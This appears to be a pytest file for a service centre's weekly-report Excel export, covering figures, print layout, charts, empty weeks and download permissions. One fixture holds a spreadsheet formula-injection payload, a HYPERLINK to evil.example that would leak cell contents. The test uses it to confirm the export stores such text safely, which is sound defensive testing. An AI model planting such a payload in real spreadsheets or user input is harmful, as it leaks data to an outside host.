"""The weekly report's workbook: the figures of the records, text that never becomes a formula,
print setup a manager hands over as is, a chart, an empty week, an absent module, who may
download it, and (where LibreOffice is installed) that it opens cleanly."""
import io
import shutil
import subprocess
import zipfile
from datetime import timedelta

import pytest
from openpyxl import load_workbook

from center.reports import weekly_export, xlsx_print
from center.services import weekly
from tests.consultations.factories import make_consultation
from tests.factories import make_booking, make_user, make_venue
from tests.reviews.factories import make_submission
from tests.weekly.helpers import KEY, in_week, make_report

TITLE = "社会组织发展服务中心工作周报（2026年第47周，11月16日—11月22日）"
EVIL = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
EMPTY_KEY = "2026-W30"


@pytest.fixture
def busy_week(session, liaison_absent):
    """Three finance consultations this week and one the week before, a booking at a venue
    whose name looks like a formula, a passed report, and a narrative that starts like one."""
    for weekday in range(3):
        make_consultation(session, occurred_at=in_week(KEY, weekday), topics=["finance"])
    make_consultation(session, occurred_at=in_week(KEY, 1) - timedelta(days=7))
    make_booking(session, venue=make_venue(session, name=EVIL), starts_at=in_week(KEY, 2, 14))
    make_submission(session, state="passed", received_on=in_week(KEY, 1).date(),
                    now=in_week(KEY, 1), reviewer=make_user(session, role="reviewer",
                                                            display_name="@王审核"))
    report = make_report(session, summary="=SUM(A1:A9)\n本周接待咨询三次。", plan="-1+2\n召开联络员会议。")
    session.commit()
    return report


def _workbook(data: bytes):
    return load_workbook(io.BytesIO(data))


def _row(ws, label: str, column: int = 2) -> tuple:
    return next(row for row in ws.iter_rows(values_only=True) if row[column - 1] == label)


def _cells(ws):
    return [cell for row in ws.iter_rows() for cell in row if cell.value is not None]


def test_the_exported_figures_are_the_records_of_the_week(auth, busy_week):
    auth.login("manager")
    response = auth.client.get(f"/weekly/{KEY}/export")
    assert response.status_code == 200
    assert response.mimetype == weekly_export.XLSX_MIMETYPE
    assert "attachment" in response.headers["Content-Disposition"]
    wb = _workbook(response.data)
    assert wb.sheetnames == ["周报概要", "咨询辅导", "场地预约", "年检预审", "三级平台联动"]
    summary = wb["周报概要"]
    assert summary["A1"].value == TITLE
    # this week 3, last week 1, change +2 (a number shown as ▲ 2), unit 次
    assert _row(summary, "咨询服务")[2:6] == (3, 1, 2, "次")
    assert _row(summary, "咨询服务")[4] == 2 and "▲" in summary.cell(
        row=next(c.row for c in summary["B"] if c.value == "咨询服务"), column=5).number_format
    assert _row(summary, "场地预约")[2] == 1 and _row(summary, "预审通过")[2] == 1
    topics = wb["咨询辅导"]
    assert _row(topics, "财务与审计", column=1)[1] == 3
    assert _row(topics, "政策与登记", column=1)[1] == 1 - 1  # the earlier week's is not counted


def test_the_narrative_sections_are_on_the_summary_sheet(session, busy_week):
    values = [c.value for c in _cells(_workbook(weekly_export.workbook_bytes(busy_week))["周报概要"])]
    assert not (session.new or session.dirty)  # exporting changes nothing
    assert values.index("二、本周工作小结") < values.index("本周接待咨询三次。") \
        < values.index("三、下周工作计划") < values.index("召开联络员会议。")


def test_text_that_looks_like_a_formula_stays_text(busy_week):
    data = weekly_export.workbook_bytes(busy_week)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheets = [archive.read(n).decode() for n in archive.namelist()
                  if n.startswith("xl/worksheets/sheet")]
    assert not any("<f>" in xml or "<f " in xml for xml in sheets)  # no formula anywhere
    wb = _workbook(data)
    cells = {c.value: c for ws in wb for c in _cells(ws) if isinstance(c.value, str)}
    for text in (EVIL, "=SUM(A1:A9)", "-1+2", "@王审核"):
        assert cells[text].data_type == "s", text
        assert cells[text].quotePrefix, text  # editing the cell in Excel keeps it text


def test_every_sheet_prints_on_a4_fitted_with_title_rows_and_page_numbers(busy_week):
    wb = _workbook(weekly_export.workbook_bytes(busy_week))
    for ws in wb:
        assert int(ws.page_setup.paperSize) == 9, ws.title  # A4
        assert ws.page_setup.orientation in ("portrait", "landscape")
        assert ws.sheet_properties.pageSetUpPr.fitToPage and ws.page_setup.fitToWidth == 1
        assert ws.page_setup.fitToHeight == 0  # as many pages down as the content needs
        assert ws.print_title_rows == "$1:$2"
        assert "&P" in ws.oddFooter.center.text and "&N" in ws.oddFooter.center.text
        assert ws["A1"].value == TITLE and ws["A1"].font.name == xlsx_print.TITLE_FONT
        assert ws.column_dimensions["A"].width >= 14
    figure = wb["周报概要"].cell(row=next(c.row for c in wb["周报概要"]["B"]
                                          if c.value == "场地使用率"), column=3)
    assert figure.number_format == "#,##0.0" and figure.font.name == xlsx_print.BODY_FONT


def test_the_consultation_sheet_has_a_chart_of_its_topics(busy_week):
    data = weekly_export.workbook_bytes(busy_week)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        charts = [n for n in archive.namelist() if n.startswith("xl/charts/chart")]
        first = archive.read(charts[0]).decode() if charts else ""
    assert charts and "按主题" in first and "barChart" in first


def test_an_empty_week_is_a_valid_workbook_that_says_so(session, liaison_absent):
    report = make_report(session, EMPTY_KEY)
    wb = _workbook(weekly_export.workbook_bytes(report))
    values = [c.value for c in _cells(wb["周报概要"])]
    assert "本周各项业务均无记录。" in values and "（未填写）" in values
    assert _row(wb["周报概要"], "咨询服务")[2:5] == (0, 0, 0)
    assert "本周无记录" in [c.value for c in _cells(wb["年检预审"])]


def test_a_module_not_built_yet_says_so_and_shows_no_zeros(session, liaison_absent):
    wb = _workbook(weekly_export.workbook_bytes(make_report(session, EMPTY_KEY)))
    assert _row(wb["周报概要"], "三级平台联动", column=1)[1:] == ("尚未上线", None, None, None, None)
    liaison = [c.value for c in _cells(wb["三级平台联动"])]
    assert "三级平台联动：尚未上线，本周无数据。" in liaison and 0 not in liaison


def test_a_report_without_figures_still_exports(session):
    report = make_report(session, EMPTY_KEY)
    report.figures = {}
    wb = _workbook(weekly_export.workbook_bytes(report))
    assert wb.sheetnames == ["周报概要"]
    assert "本周数据尚未生成。" in [c.value for c in _cells(wb["周报概要"])]


def test_supervisors_download_submitted_reports_only(auth, session, busy_week):
    auth.login("supervisor")
    assert auth.client.get(f"/weekly/{KEY}/export").status_code == 404
    weekly.submit(session, busy_week, recipients=[{"name": "服务发展处"}],
                  actor=make_user(session, role="manager"))
    session.commit()
    response = auth.client.get(f"/weekly/{KEY}/export")
    assert response.status_code == 200 and response.data.startswith(b"PK")


@pytest.mark.parametrize("role", ["frontdesk", "reviewer", "platform", "org"])
def test_other_roles_may_not_download(auth, busy_week, role):
    auth.login(role)
    assert auth.client.get(f"/weekly/{KEY}/export").status_code == 403


def test_a_week_that_does_not_exist_is_a_clear_404(auth):
    auth.login("manager")
    response = auth.client.get("/weekly/2026-W54/export")
    assert response.status_code == 404 and "2026-W54" in response.get_data(as_text=True)


@pytest.mark.skipif(shutil.which("soffice") is None,
                    reason="LibreOffice (soffice) is not installed: cannot check the workbook "
                           "opens in it")
def test_the_workbook_opens_in_libreoffice(busy_week, tmp_path):
    source = tmp_path / "weekly.xlsx"
    source.write_bytes(weekly_export.workbook_bytes(busy_week))
    done = subprocess.run(
        ["soffice", f"-env:UserInstallation=file://{tmp_path / 'profile'}", "--headless",
         "--convert-to", "pdf", "--outdir", str(tmp_path), str(source)],
        capture_output=True, text=True, timeout=180)
    pdf = tmp_path / "weekly.pdf"
    assert done.returncode == 0 and pdf.exists(), done.stderr
    assert pdf.read_bytes().startswith(b"%PDF") and pdf.stat().st_size > 10_000
